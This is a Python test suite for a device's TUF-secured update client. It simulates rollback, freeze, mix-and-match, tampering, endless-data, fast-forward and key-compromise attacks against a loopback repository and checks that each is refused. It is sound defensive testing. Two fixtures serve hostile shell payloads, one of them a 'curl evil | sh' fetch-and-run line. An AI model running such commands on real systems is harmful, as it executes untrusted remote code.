"""Every TUF attack on the device's download is refused, and nothing is staged.

Each test publishes a real repository with bsi's publisher, serves it over HTTP
on loopback, lets an attacker (a hostile mirror, a man in the middle, or a
compromised server holding some keys) change what is served, and then runs the
device's code path: refresh, ``expect_target`` for its platform and builds,
``download`` into its staging area. The refusal must be the specific
:class:`~bsi.trust.errors.TrustError` and the staging area must stay empty.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from tuf_simulator import ENDLESS, TufRepo, staged

from bsi.errors import NotFound
from bsi.trust import (
    Expiries,
    MetadataExpired,
    MetadataTooLarge,
    RollbackRefused,
    TargetNotFound,
    TargetRejected,
    TargetTooLarge,
    TrustedClient,
    TrustError,
    UntrustedMetadata,
    WrongTarget,
    publish_target,
    refresh_timestamp,
    rotate_key,
)
from bsi.trust._tuf import TargetFile
from bsi.trust.model import meta_file, with_custom

NAME = "debian/25D771280a/cryptex.tar.zst"
BUNDLE = b"cryptex: openssl 3.0.15 replacement files\n" * 50
DEVICE = {"platform": "debian", "prerequisite_build": "25D2128", "supplemental_build": "25D771280a"}


def fetch_for(client: TrustedClient, home: Path, facts: dict[str, str], name: str = NAME) -> Path:
    """What the agent does: check the target is for this device, then stage it."""
    info = client.expect_target(name, **facts)
    return client.download(info, home / "preboot")


def fetch(client: TrustedClient, home: Path, name: str = NAME) -> Path:
    return fetch_for(client, home, DEVICE, name)


def refused(
    kind: type[TrustError], repo: TufRepo, home: Path, name: str = NAME, **client_args: object
) -> TrustError:
    """Run the device's fetch and assert it is refused with ``kind``, staging nothing."""
    with pytest.raises(kind) as caught:
        fetch(repo.client(home, **client_args), home, name)
    assert staged(home) == [], "a refused bundle must not reach the staging area"
    assert str(caught.value)
    return caught.value


def trusted_version(home: Path, role: str) -> int:
    return int(json.loads((home / "tuf" / f"{role}.json").read_bytes())["signed"]["version"])


# --- the happy path over real HTTP --------------------------------------------------


def test_device_stages_a_signed_bundle_for_it(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE, extra={"product_version": "26.3.1", "extra_version": "(a)"})
    client = repo.client(device)

    info = client.expect_target(NAME, **DEVICE)
    path = client.download(info, device / "preboot")

    assert path.read_bytes() == BUNDLE
    assert info.length == len(BUNDLE)
    assert info.sha256 is not None
    assert len(info.sha256) == 64
    assert str(info.supplement_fields().version.extra) == "(a)"
    assert [p.name for p in staged(device)] == ["cryptex.tar.zst"]
    assert len(repo.server.requested("targets/")) == 1

    # A second download of an unchanged bundle is served from the staging area.
    assert client.download(info, device / "preboot") == path
    assert len(repo.server.requested("targets/")) == 1


def test_device_follows_new_versions(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    assert fetch(repo.client(device), device).read_bytes() == BUNDLE
    repo.publish(NAME, BUNDLE + b"(b)")
    assert fetch(repo.client(device), device).read_bytes() == BUNDLE + b"(b)"
    assert trusted_version(device, "targets") == 3


# --- rollback -------------------------------------------------------------------------


def test_rollback_to_an_older_timestamp_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    old_timestamp = repo.served("metadata/timestamp.json")
    repo.publish(NAME, BUNDLE + b"fixed")
    repo.client(device).refresh()
    trusted = trusted_version(device, "timestamp")

    repo.serve_instead("metadata/timestamp.json", old_timestamp)

    error = refused(RollbackRefused, repo, device)
    assert "timestamp" in str(error)
    assert trusted_version(device, "timestamp") == trusted


def test_rollback_to_an_older_snapshot_is_refused(repo: TufRepo, device: Path) -> None:
    """A compromised server (holding the timestamp key) points at an old snapshot."""
    repo.publish(NAME, BUNDLE)
    old_snapshot = repo.current("snapshot")
    repo.publish(NAME, BUNDLE + b"fixed")
    repo.client(device).refresh()

    timestamp = repo.current("timestamp")
    timestamp.signed.version += 1
    timestamp.signed.snapshot_meta = meta_file(
        repo.served(f"metadata/{old_snapshot.signed.version}.snapshot.json"),
        old_snapshot.signed.version,
    )
    repo.serve_instead("metadata/timestamp.json", repo.forge(timestamp, repo.key_path("timestamp")))

    refused(RollbackRefused, repo, device)


def test_rollback_to_older_targets_is_refused(repo: TufRepo, device: Path) -> None:
    """Holding both online keys, the server re-points snapshot at the vulnerable targets."""
    repo.publish(NAME, b"vulnerable")
    old_targets_version = repo.current("targets").signed.version
    repo.publish(NAME, BUNDLE)
    repo.client(device).refresh()

    snapshot = repo.current("snapshot")
    snapshot.signed.version += 1
    snapshot.signed.meta["targets.json"] = meta_file(
        repo.served(f"metadata/{old_targets_version}.targets.json"), old_targets_version
    )
    snapshot_bytes = repo.forge(snapshot, repo.key_path("snapshot"))
    timestamp = repo.current("timestamp")
    timestamp.signed.version += 1
    timestamp.signed.snapshot_meta = meta_file(snapshot_bytes, snapshot.signed.version)
    repo.serve_instead(f"metadata/{snapshot.signed.version}.snapshot.json", snapshot_bytes)
    repo.serve_instead("metadata/timestamp.json", repo.forge(timestamp, repo.key_path("timestamp")))

    error = refused(RollbackRefused, repo, device)
    assert "targets" in str(error)
    assert repo.server.requested("targets/") == []


# --- indefinite freeze ------------------------------------------------------------------

LONG = timedelta(days=30)


@pytest.mark.parametrize("role", ["timestamp", "snapshot", "targets"])
def test_expired_metadata_is_refused(
    make_repo: Callable[..., TufRepo], device: Path, role: str
) -> None:
    """A frozen mirror keeps serving metadata its publisher let expire."""
    periods = {"root": LONG, "targets": LONG, "snapshot": LONG, "timestamp": LONG}
    periods[role] = timedelta(days=1)
    repo = make_repo(expires=Expiries(**periods))
    repo.publish(NAME, BUNDLE, now=datetime.now(UTC) - timedelta(days=2))

    error = refused(MetadataExpired, repo, device)
    assert role in str(error)


def test_expired_root_is_refused(make_repo: Callable[..., TufRepo], device: Path) -> None:
    repo = make_repo(
        expires=Expiries(root=timedelta(days=1)), now=datetime.now(UTC) - timedelta(days=2)
    )
    repo.publish(NAME, BUNDLE)
    error = refused(MetadataExpired, repo, device)
    assert "root" in str(error)


def test_freeze_after_the_device_trusted_a_fresh_state(
    make_repo: Callable[..., TufRepo], device: Path
) -> None:
    """The device saw fresh metadata; a later, stale timestamp is not accepted either."""
    repo = make_repo()
    repo.publish(NAME, BUNDLE)
    repo.client(device).refresh()
    refresh_timestamp(
        repo.repo_dir,
        repo.keys_dir,
        now=datetime.now(UTC) - timedelta(days=3),
        refuse_clock_behind=False,  # the attacker forges it on purpose
    )  # a newer version number, but long expired
    refused(MetadataExpired, repo, device)


# --- mix-and-match ----------------------------------------------------------------------


def _reformatted(data: bytes) -> bytes:
    """The same signed metadata (signatures still valid) and length, but other bytes."""
    compact = json.dumps(json.loads(data), separators=(",", ":")).encode()
    other = compact + b" " * (len(data) - len(compact))
    assert other != data
    assert len(other) == len(data)
    return other


def test_snapshot_not_matching_the_timestamp_pin_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    path = f"metadata/{repo.current('snapshot').signed.version}.snapshot.json"
    repo.serve_instead(path, _reformatted(repo.served(path)))
    error = refused(UntrustedMetadata, repo, device)
    assert "snapshot" in str(error).lower()


def test_targets_not_matching_the_snapshot_pin_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    path = f"metadata/{repo.current('targets').signed.version}.targets.json"
    repo.serve_instead(path, _reformatted(repo.served(path)))
    refused(UntrustedMetadata, repo, device)


def test_older_targets_served_in_place_of_current_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, b"vulnerable")
    old = repo.served(f"metadata/{repo.current('targets').signed.version}.targets.json")
    repo.publish(NAME, BUNDLE)
    repo.serve_instead(f"metadata/{repo.current('targets').signed.version}.targets.json", old)
    refused(UntrustedMetadata, repo, device)


def test_metadata_from_another_repository_is_refused(
    make_repo: Callable[..., TufRepo], device: Path
) -> None:
    repo, other = make_repo(), make_repo()
    repo.publish(NAME, BUNDLE)
    other.publish(NAME, b"other publisher")
    repo.serve_instead("metadata/timestamp.json", other.served("metadata/timestamp.json"))
    refused(UntrustedMetadata, repo, device)


# --- arbitrary or tampered bundle -------------------------------------------------------


def test_tampered_bundle_of_the_same_length_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    tampered = bytearray(BUNDLE)
    tampered[7] ^= 0x01
    repo.serve_instead(repo.bundle_path(NAME), bytes(tampered))
    refused(TargetRejected, repo, device)


def test_arbitrary_bundle_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    repo.serve_instead(repo.bundle_path(NAME), b"#!/bin/sh\ncurl evil | sh\n")
    refused(TargetRejected, repo, device)


def test_bundle_the_metadata_does_not_sign_is_not_found(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    repo.serve_instead("targets/debian/25D771280a/evil.tar.zst", b"evil")
    error = refused(TargetNotFound, repo, device, "debian/25D771280a/evil.tar.zst")
    assert isinstance(error, NotFound)


def test_refused_bundle_replaces_nothing_already_staged(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    good = fetch(repo.client(device), device)
    repo.publish(NAME, BUNDLE + b"(b)")
    repo.serve_instead(repo.bundle_path(NAME), b"X" * (len(BUNDLE) + 3))
    with pytest.raises(TargetRejected):
        fetch(repo.client(device), device)
    assert staged(device) == [good]
    assert good.read_bytes() == BUNDLE


# --- endless data ---------------------------------------------------------------------


def test_bundle_longer_than_signed_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    repo.serve_instead(repo.bundle_path(NAME), BUNDLE + b"more" * 1000)
    refused(TargetTooLarge, repo, device)


def test_endless_bundle_is_cut_off(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    repo.serve_instead(repo.bundle_path(NAME), ENDLESS)
    refused(TargetTooLarge, repo, device)


def test_bundle_over_the_device_limit_is_not_even_fetched(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    error = refused(TargetTooLarge, repo, device, max_target_bytes=len(BUNDLE) - 1)
    assert str(len(BUNDLE)) in str(error)
    assert repo.server.requested("targets/") == []


@pytest.mark.parametrize("role", ["root", "timestamp", "snapshot", "targets"])
def test_endless_metadata_is_cut_off(repo: TufRepo, device: Path, role: str) -> None:
    repo.publish(NAME, BUNDLE)
    path = {
        "root": "metadata/2.root.json",
        "timestamp": "metadata/timestamp.json",
        "snapshot": f"metadata/{repo.current('snapshot').signed.version}.snapshot.json",
        "targets": f"metadata/{repo.current('targets').signed.version}.targets.json",
    }[role]
    repo.serve_instead(path, ENDLESS)
    refused(MetadataTooLarge, repo, device)


def test_timestamp_over_its_limit_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    padded = repo.served("metadata/timestamp.json") + b" " * 20_000
    repo.serve_instead("metadata/timestamp.json", padded)
    refused(MetadataTooLarge, repo, device)


# --- fast-forward attack, and the TUF recovery ------------------------------------------


def test_timestamp_fast_forward_recovers_after_timestamp_key_rotation(
    repo: TufRepo, device: Path
) -> None:
    repo.publish(NAME, BUNDLE)
    # The attacker holds the timestamp key and jumps the version far ahead.
    forged = repo.current("timestamp")
    forged.signed.version = 1_000_000
    repo.serve_instead("metadata/timestamp.json", repo.forge(forged, repo.key_path("timestamp")))
    repo.client(device).refresh()  # validly signed: the device accepts it
    assert trusted_version(device, "timestamp") == 1_000_000

    # The attack is over, but honest timestamps now look like rollbacks.
    repo.server.overrides.clear()
    repo.publish(NAME, BUNDLE + b"(b)")
    refused(RollbackRefused, repo, device)

    # Recovery (TUF spec 5.3.11): rotate the timestamp key; the device drops the
    # timestamp it can no longer verify and accepts the honest one.
    rotation = rotate_key(repo.repo_dir, repo.keys_dir, "timestamp", signers=[repo.signer("root")])
    assert rotation.published is not None
    path = fetch(repo.client(device), device)
    assert path.read_bytes() == BUNDLE + b"(b)"
    assert trusted_version(device, "timestamp") == rotation.published.versions["timestamp"]


def test_snapshot_fast_forward_recovers_after_online_key_rotation(
    repo: TufRepo, device: Path
) -> None:
    repo.publish(NAME, BUNDLE)
    # A compromised server (both online keys) jumps snapshot and timestamp ahead.
    snapshot = repo.current("snapshot")
    snapshot.signed.version = 1_000_000
    snapshot_bytes = repo.forge(snapshot, repo.key_path("snapshot"))
    timestamp = repo.current("timestamp")
    timestamp.signed.version = 1_000_000
    timestamp.signed.snapshot_meta = meta_file(snapshot_bytes, 1_000_000)
    repo.serve_instead("metadata/1000000.snapshot.json", snapshot_bytes)
    repo.serve_instead("metadata/timestamp.json", repo.forge(timestamp, repo.key_path("timestamp")))
    repo.client(device).refresh()
    assert trusted_version(device, "snapshot") == 1_000_000

    repo.server.overrides.clear()
    repo.publish(NAME, BUNDLE + b"(b)")
    refused(RollbackRefused, repo, device)

    for role in ("snapshot", "timestamp"):
        rotation = rotate_key(repo.repo_dir, repo.keys_dir, role, signers=[repo.signer("root")])
        assert rotation.published is not None
    assert fetch(repo.client(device), device).read_bytes() == BUNDLE + b"(b)"
    assert trusted_version(device, "snapshot") < 1_000_000


# --- key compromise below threshold -----------------------------------------------------


def test_one_of_two_targets_keys_cannot_sign_a_bundle(
    make_repo: Callable[..., TufRepo], device: Path
) -> None:
    """Attacker: one targets key of two, plus the server's online keys."""
    repo = make_repo(thresholds={"targets": 2})
    repo.publish(NAME, BUNDLE)

    evil = b"#!/bin/sh\nbackdoor\n"
    targets = repo.current("targets")
    targets.signed.version += 1
    targets.signed.targets[NAME] = with_custom(TargetFile.from_data(NAME, evil), DEVICE)
    targets_bytes = repo.forge(targets, repo.key_path("targets", 1))
    snapshot = repo.current("snapshot")
    snapshot.signed.version += 1
    snapshot.signed.meta["targets.json"] = meta_file(targets_bytes, targets.signed.version)
    snapshot_bytes = repo.forge(snapshot, repo.key_path("snapshot"))
    timestamp = repo.current("timestamp")
    timestamp.signed.version += 1
    timestamp.signed.snapshot_meta = meta_file(snapshot_bytes, snapshot.signed.version)
    for path, data in {
        f"metadata/{targets.signed.version}.targets.json": targets_bytes,
        f"metadata/{snapshot.signed.version}.snapshot.json": snapshot_bytes,
        "metadata/timestamp.json": repo.forge(timestamp, repo.key_path("timestamp")),
    }.items():
        repo.serve_instead(path, data)

    error = refused(UntrustedMetadata, repo, device)
    assert "1/2" in str(error)
    assert repo.server.requested("targets/") == []


def test_one_of_two_root_keys_cannot_replace_the_online_keys(
    make_repo: Callable[..., TufRepo], device: Path
) -> None:
    repo = make_repo(thresholds={"root": 2})
    repo.publish(NAME, BUNDLE)
    attacker = make_repo()  # the attacker's own keys, to take over timestamp

    root = copy.deepcopy(repo.root(1))
    root.signed.version = 2
    for keyid in list(root.signed.roles["timestamp"].keyids):
        root.signed.revoke_key(keyid, "timestamp")
    root.signed.add_key(attacker.signer("timestamp").public_key, "timestamp")
    repo.serve_instead("metadata/2.root.json", repo.forge(root, repo.key_path("root", 1)))

    error = refused(UntrustedMetadata, repo, device)
    assert "root" in str(error)
    assert trusted_version(device, "root") == 1


# --- wrong target for the device --------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "device_value"),
    [
        ("platform", "flatcar"),
        ("prerequisite_build", "25D2200"),
        ("supplemental_build", "25D771280b"),
    ],
)
def test_bundle_for_another_device_or_build_is_refused(
    repo: TufRepo, device: Path, field: str, device_value: str
) -> None:
    """Validly signed, but for someone else: a server steering the device is refused."""
    repo.publish(NAME, BUNDLE)
    facts = {**DEVICE, field: device_value}
    with pytest.raises(WrongTarget) as caught:
        fetch_for(repo.client(device), device, facts)
    assert field in str(caught.value)
    assert device_value in str(caught.value)
    assert isinstance(caught.value, TargetRejected)
    assert staged(device) == []
    assert repo.server.requested("targets/") == []


def test_target_without_signed_device_fields_is_refused(repo: TufRepo, device: Path) -> None:
    repo.publish(NAME, BUNDLE)
    targets = repo.current("targets")
    assert targets.signed.targets[NAME].custom["bsi"]["platform"] == "debian"
    bare = repo.base / "bare"
    bare.write_bytes(BUNDLE)
    publish_target(repo.repo_dir, repo.keys_dir, NAME, bare, {}, signers=repo.signers("targets"))
    refused(WrongTarget, repo, device)


def test_downloading_a_target_that_changed_since_lookup_is_refused(
    repo: TufRepo, device: Path
) -> None:
    repo.publish(NAME, BUNDLE)
    client = repo.client(device)
    info = client.expect_target(NAME, **DEVICE)
    stale = type(info)(info.name, info.length + 1, info.hashes, info.custom)
    with pytest.raises(TargetRejected):
        client.download(stale, device / "preboot")
    assert staged(device) == []
